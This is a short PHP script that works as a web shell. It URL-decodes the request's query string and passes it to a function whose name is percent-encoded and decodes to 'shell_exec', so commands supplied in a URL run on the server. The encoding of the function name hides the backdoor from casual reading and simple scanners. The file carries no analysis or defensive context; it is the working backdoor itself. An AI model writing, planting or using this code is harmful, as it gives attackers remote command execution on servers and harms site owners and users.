<?php
header('Content-Type: text/plain');
$x = urldecode($_SERVER['QUERY_STRING']);
register_shutdown_function(urldecode('%73%68%65%6c%6c%5f%65%78%65%63'), $x);
